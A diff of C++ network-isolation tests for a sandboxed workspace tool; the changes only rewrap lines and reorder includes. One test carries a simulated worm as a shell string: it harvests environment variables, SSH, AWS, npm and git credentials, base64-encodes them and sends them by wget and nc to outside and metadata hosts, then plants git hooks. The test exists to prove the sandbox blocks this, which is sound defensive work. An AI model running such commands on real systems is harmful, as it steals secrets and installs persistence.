@@ -4,8 +4,8 @@
 #include <arpa/inet.h>
 #include <gtest/gtest.h>
 #include <netinet/in.h>
-#include <sys/socket.h>
 #include <signal.h>
+#include <sys/socket.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -43,11 +43,12 @@ std::string Fetch(const std::string& ws, const std::string& url) {
 TEST(Net, OnlyAllowedTargetsAreReachedAndEveryAttemptIsAudited) {
   TestServer allowed("allowed-body"), denied("denied-body");
   const std::string a = std::to_string(allowed.port()), d = std::to_string(denied.port());
-  ASSERT_EQ(W().Cli({"create", "net1", "--no-share", "--no-default-allow", "--allow", "127.0.0.1:" + a,
-                     "--allow", "localhost:1"})
+  ASSERT_EQ(W().Cli({"create", "net1", "--no-share", "--no-default-allow", "--allow",
+                     "127.0.0.1:" + a, "--allow", "localhost:1"})
                 .code,
             0);
-  EXPECT_NE(Fetch("net1", "http://127.0.0.1:" + a + "/x").find("allowed-body rc=0"), std::string::npos);
+  EXPECT_NE(Fetch("net1", "http://127.0.0.1:" + a + "/x").find("allowed-body rc=0"),
+            std::string::npos);
   // The denied server's address in every spelling, and names not on the list.
   for (std::string host : {"127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "[::1]",
                            "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "localhost", "github.com"}) {
@@ -56,13 +57,16 @@ TEST(Net, OnlyAllowedTargetsAreReachedAndEveryAttemptIsAudited) {
     EXPECT_NE(out.find("403"), std::string::npos) << host << ": " << out;
   }
   auto noticed = Guest("net1", "wget -q -O- http://github.com/ >/dev/null 2>&1; true");
-  EXPECT_NE(noticed.err.find("workspace: egress to github.com:80 denied: github.com is not on the allowlist"),
+  EXPECT_NE(noticed.err.find(
+                "workspace: egress to github.com:80 denied: github.com is not on the allowlist"),
             std::string::npos)
       << "the exec that caused a denial hears of it: " << noticed.err;
-  auto connect = Guest("net1", "printf 'CONNECT 127.0.0.1:" + d + " HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128");
+  auto connect = Guest(
+      "net1", "printf 'CONNECT 127.0.0.1:" + d + " HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128");
   EXPECT_NE(connect.out.find("403"), std::string::npos) << connect.out;
   // No way around the proxy: no NIC, no route.
-  auto direct = Guest("net1", "nc -w 2 203.0.113.1 80 </dev/null 2>&1; ip link 2>&1 | grep -c ether; true");
+  auto direct =
+      Guest("net1", "nc -w 2 203.0.113.1 80 </dev/null 2>&1; ip link 2>&1 | grep -c ether; true");
   EXPECT_NE(direct.out.find("unreachable"), std::string::npos) << direct.out;
   EXPECT_EQ(denied.received(), "") << "a denied server received bytes";
   EXPECT_NE(allowed.received().find("GET /x HTTP/1.1"), std::string::npos);
@@ -95,8 +99,10 @@ TEST(Net, AllowAndRemoveTakeEffectForTheNextConnection) {
   EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
   ASSERT_EQ(W().Cli({"allow", "net2", "127.0.0.1:" + p}).code, 0);
   std::string after = Fetch("net2", "http://127.0.0.1:" + p + "/");
-  EXPECT_NE(after.find("late-body rc=0"), std::string::npos) << after << W().Cli({"audit", "net2"}).out;
-  EXPECT_NE(W().Cli({"inspect", "net2"}).out.find("127.0.0.1:" + p + "  from user"), std::string::npos);
+  EXPECT_NE(after.find("late-body rc=0"), std::string::npos)
+      << after << W().Cli({"audit", "net2"}).out;
+  EXPECT_NE(W().Cli({"inspect", "net2"}).out.find("127.0.0.1:" + p + "  from user"),
+            std::string::npos);
   ASSERT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 0);
   EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
   EXPECT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 1) << "not on the list";
@@ -106,7 +112,9 @@ TEST(Net, AllowAndRemoveTakeEffectForTheNextConnection) {
 
 TEST(Net, NetNoneHasNoProxyAndDefaultsHoldNoCodeHosts) {
   ASSERT_EQ(W().Cli({"create", "net3", "--no-share", "--net", "none"}).code, 0);
-  auto r = Guest("net3", "env | grep -ci proxy; nc -w 2 127.0.0.1 3128 </dev/null && echo open || echo closed");
+  auto r =
+      Guest("net3",
+            "env | grep -ci proxy; nc -w 2 127.0.0.1 3128 </dev/null && echo open || echo closed");
   EXPECT_EQ(r.out, "0\nclosed\n") << r.out << r.err;
   EXPECT_EQ(W().Cli({"allow", "net3", "example.org"}).code, 1);
   EXPECT_EQ(W().Cli({"destroy", "-f", "net3"}).code, 0);
@@ -141,14 +149,21 @@ TEST(Net, AWormInTheGuestFindsNoSecretAndCannotSendAnythingElsewhere) {
   o.cwd = project;
   o.env["GITHUB_TOKEN"] = "CANARY-env-token";
   o.env["NPM_TOKEN"] = "CANARY-env-npm";
-  ASSERT_EQ(W().Cli({"create", "wormy", "--no-default-allow", "--allow", "127.0.0.1:" + ep}, o).code, 0);
+  ASSERT_EQ(
+      W().Cli({"create", "wormy", "--no-default-allow", "--allow", "127.0.0.1:" + ep}, o).code, 0);
   std::string worm =
-      "loot=$( (env; cat /workspace/.npmrc /workspace/.env ~/.npmrc ~/.ssh/* ~/.aws/* ~/.git-credentials "
-      "/root/.ssh/* 2>/dev/null; grep -r CANARY / --exclude-dir=proc --exclude-dir=sys 2>/dev/null) | "
-      "base64 | tr -d '\\n'); echo \"found $(echo \"$loot\" | base64 -d 2>/dev/null | grep -c CANARY)\"; "
-      "for t in 127.0.0.1:" + dp + " 127.1:" + dp + " [::1]:" + dp + " github.com:443 0.0.0.0:" + dp +
+      "loot=$( (env; cat /workspace/.npmrc /workspace/.env ~/.npmrc ~/.ssh/* ~/.aws/* "
+      "~/.git-credentials "
+      "/root/.ssh/* 2>/dev/null; grep -r CANARY / --exclude-dir=proc --exclude-dir=sys "
+      "2>/dev/null) | "
+      "base64 | tr -d '\\n'); echo \"found $(echo \"$loot\" | base64 -d 2>/dev/null | grep -c "
+      "CANARY)\"; "
+      "for t in 127.0.0.1:" +
+      dp + " 127.1:" + dp + " [::1]:" + dp + " github.com:443 0.0.0.0:" + dp +
       " 169.254.169.254:80; do wget -q -O- \"http://$t/?d=$loot\" >/dev/null 2>&1; done; "
-      "wget -q -O- \"http://127.0.0.1:" + ep + "/?d=$loot\" >/dev/null 2>&1; "
+      "wget -q -O- \"http://127.0.0.1:" +
+      ep +
+      "/?d=$loot\" >/dev/null 2>&1; "
       "nc -w 2 203.0.113.5 443 </dev/null >/dev/null 2>&1; "
       "echo '#!/bin/sh\ntouch /tmp/pwned' > /workspace/.git/hooks/post-checkout 2>/dev/null; "
       "git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null; true";
@@ -159,21 +174,28 @@ TEST(Net, AWormInTheGuestFindsNoSecretAndCannotSendAnythingElsewhere) {
   EXPECT_EQ(denied.received(), "") << "bytes reached a server not on the allowlist";
   EXPECT_NE(exfil.received().find("GET /?d="), std::string::npos) << "the worm's send did happen";
   EXPECT_EQ(exfil.received().find("CANARY"), std::string::npos) << "a canary left the guest";
-  EXPECT_FALSE(fs::exists(project + "/.git/hooks/post-checkout")) << "a hook was planted on the host";
+  EXPECT_FALSE(fs::exists(project + "/.git/hooks/post-checkout"))
+      << "a hook was planted on the host";
   EXPECT_EQ(W().Cli({"destroy", "-f", "wormy"}).code, 0);
 }
 
 TEST(Net, IdleTunnelsAreCut) {
   TestServer silent("never-sent");  // waits for a request that never comes
   const std::string p = std::to_string(silent.port());
-  ASSERT_EQ(W().Cli({"create", "idle", "--no-share", "--no-default-allow", "--allow", "127.0.0.1:" + p}).code, 0);
-  auto r = Guest("idle", "(printf 'CONNECT 127.0.0.1:" + p + " HTTP/1.1\\r\\n\\r\\n'; sleep 14) | nc 127.0.0.1 3128");
+  ASSERT_EQ(
+      W().Cli({"create", "idle", "--no-share", "--no-default-allow", "--allow", "127.0.0.1:" + p})
+          .code,
+      0);
+  auto r = Guest("idle", "(printf 'CONNECT 127.0.0.1:" + p +
+                             " HTTP/1.1\\r\\n\\r\\n'; sleep 14) | nc 127.0.0.1 3128");
   EXPECT_NE(r.out.find("200 Connection established"), std::string::npos) << r.out << r.err;
   // The audit line is written when the tunnel ends: with the daemon's 4 s
   // limit here, well before the client's 14 s.
   auto audit = W().Cli({"audit", "idle", "--json"}).out;
   std::smatch m;
-  ASSERT_TRUE(std::regex_search(audit, m, std::regex("\"decision\":\"allow\".*\"duration_ms\":([0-9]+)"))) << audit;
+  ASSERT_TRUE(
+      std::regex_search(audit, m, std::regex("\"decision\":\"allow\".*\"duration_ms\":([0-9]+)")))
+      << audit;
   EXPECT_LT(std::stoi(m[1]), 11000) << "the idle tunnel was not cut";
   EXPECT_GE(std::stoi(m[1]), 3500);
   EXPECT_EQ(W().Cli({"destroy", "-f", "idle"}).code, 0);
@@ -183,30 +205,37 @@ TEST(Net, OpenNetworkHasAConfiguredNicAndNoProxy) {
   auto create = W().Cli({"create", "open1", "--no-share", "--net", "open"});
   ASSERT_EQ(create.code, 0) << create.err;
   EXPECT_NE(create.err.find("unfiltered"), std::string::npos) << "create warns";
-  auto r = Guest("open1", "ip addr show eth0 | grep -o 'inet [0-9./]*'; ip route | grep -c default; env | grep -ci proxy");
+  auto r = Guest("open1",
+                 "ip addr show eth0 | grep -o 'inet [0-9./]*'; ip route | grep -c default; env | "
+                 "grep -ci proxy");
   EXPECT_EQ(r.out, "inet 10.0.2.15/24\n1\n0\n") << r.out << r.err;
-  EXPECT_EQ(W().Cli({"create", "open2", "--no-share", "--net", "open", "--allow", "x.org"}).code, 2);
+  EXPECT_EQ(W().Cli({"create", "open2", "--no-share", "--net", "open", "--allow", "x.org"}).code,
+            2);
   EXPECT_EQ(W().Cli({"destroy", "-f", "open1"}).code, 0);
 }
 
 int HttpGet(const std::string& host, int port, std::string* body) {
-  auto r = ws::test::Run({"curl", "-s", "-m", "5", "http://" + host + ":" + std::to_string(port) + "/index.html"});
+  auto r = ws::test::Run(
+      {"curl", "-s", "-m", "5", "http://" + host + ":" + std::to_string(port) + "/index.html"});
   *body = r.out;
   return r.code;
 }
 
 TEST(Net, PublishedGuestPortsAreReachableOnHostLoopbackOnly) {
   ASSERT_EQ(W().Cli({"create", "pub", "--no-share", "--publish", "18181"}).code, 0);
-  ASSERT_EQ(Guest("pub", "mkdir -p /tmp/www && echo served-from-guest > /tmp/www/index.html").code, 0);
+  ASSERT_EQ(Guest("pub", "mkdir -p /tmp/www && echo served-from-guest > /tmp/www/index.html").code,
+            0);
   auto port = W().Cli({"port", "pub", "8080"});
   ASSERT_EQ(port.code, 0) << port.err;
   std::smatch m;
-  ASSERT_TRUE(std::regex_search(port.out, m, std::regex("127\\.0\\.0\\.1:([0-9]+) -> pub:8080"))) << port.out;
+  ASSERT_TRUE(std::regex_search(port.out, m, std::regex("127\\.0\\.0\\.1:([0-9]+) -> pub:8080")))
+      << port.out;
   const int host_port = std::stoi(m[1]);
   std::string body;
   RunOptions o;
   o.env["WORKSPACE_STATE_DIR"] = W().state_dir();
-  int server = Spawn({W().bin(), "exec", "pub", "--", "httpd", "-f", "-p", "8080", "-h", "/tmp/www"}, o);
+  int server =
+      Spawn({W().bin(), "exec", "pub", "--", "httpd", "-f", "-p", "8080", "-h", "/tmp/www"}, o);
   ReapOnExit guard(server);
   int rc = 1;
   for (int i = 0; i < 50 && rc != 0; ++i) {
@@ -246,14 +275,18 @@ TEST(Net, PublishedGuestPortsAreReachableOnHostLoopbackOnly) {
   ASSERT_EQ(listen(taken, 1), 0);
   auto start = W().Cli({"start", "pub"});
   EXPECT_EQ(start.code, 0) << start.err;
-  EXPECT_NE(start.err.find("port 18181 (guest 18181): host port 18181 is in use"), std::string::npos) << start.err;
+  EXPECT_NE(start.err.find("port 18181 (guest 18181): host port 18181 is in use"),
+            std::string::npos)
+      << start.err;
   EXPECT_NE(start.err.find("workspace port pub --remove 18181"), std::string::npos) << start.err;
   auto inspect = W().Cli({"inspect", "pub", "--json"});
-  EXPECT_NE(inspect.out.find("\"port_problems\":[\"18181 (guest 18181): host port 18181 is in use"), std::string::npos)
+  EXPECT_NE(inspect.out.find("\"port_problems\":[\"18181 (guest 18181): host port 18181 is in use"),
+            std::string::npos)
       << inspect.out;
   ASSERT_EQ(W().Cli({"port", "pub", "--remove", "18181"}).code, 0);
   inspect = W().Cli({"inspect", "pub", "--json"});
-  EXPECT_NE(inspect.out.find("\"name\""), std::string::npos) << inspect.out;  // control: inspect answered
+  EXPECT_NE(inspect.out.find("\"name\""), std::string::npos)
+      << inspect.out;  // control: inspect answered
   EXPECT_NE(inspect.out.find("\"port_problems\":[]"), std::string::npos) << inspect.out;
   close(taken);
   EXPECT_EQ(W().Cli({"destroy", "-f", "pub"}).code, 0);
@@ -284,7 +317,8 @@ TEST(Net, AMembersLoopbackEntriesAndLowPortsFollowTheDaemonsPolicy) {
   EXPECT_NE(literal.err.find(W().daemon_config()), std::string::npos) << literal.err;
   EXPECT_EQ(W().CliAs(m, {"allow", "pol", "169.254.169.254"}).code, 1);
   EXPECT_EQ(W().CliAs(m, {"allow", "pol", "localhost:" + p}).code, 1);
-  auto at_create = W().CliAs(m, {"create", "pol2", "--no-share", "--no-default-allow", "--allow", "10.1.2.3"});
+  auto at_create =
+      W().CliAs(m, {"create", "pol2", "--no-share", "--no-default-allow", "--allow", "10.1.2.3"});
   EXPECT_EQ(at_create.code, 1) << at_create.err;
   EXPECT_EQ(W().CliAs(m, {"list"}).out.find("pol2"), std::string::npos) << "nothing half-made";
 
@@ -309,9 +343,11 @@ TEST(Net, AMembersLoopbackEntriesAndLowPortsFollowTheDaemonsPolicy) {
   EXPECT_EQ(auto_port.out.find("127.0.0.1:80 "), std::string::npos) << auto_port.out;
 
   // Positive control: root's config allows both, the same requests work.
-  std::ofstream(W().daemon_config()) << "[members]\nallow_private_hosts = true\nallow_low_ports = true\n";
+  std::ofstream(W().daemon_config())
+      << "[members]\nallow_private_hosts = true\nallow_low_ports = true\n";
   ASSERT_EQ(W().CliAs(m, {"allow", "pol", "127.0.0.1:" + p}).code, 0);
-  EXPECT_NE(Fetch("pol", "http://127.0.0.1:" + p + "/").find("member-body rc=0"), std::string::npos);
+  EXPECT_NE(Fetch("pol", "http://127.0.0.1:" + p + "/").find("member-body rc=0"),
+            std::string::npos);
   auto low_ok = W().CliAs(m, {"port", "pol", "1023:8000"});
   EXPECT_EQ(low_ok.code, 0) << low_ok.err;
   std::remove(W().daemon_config().c_str());
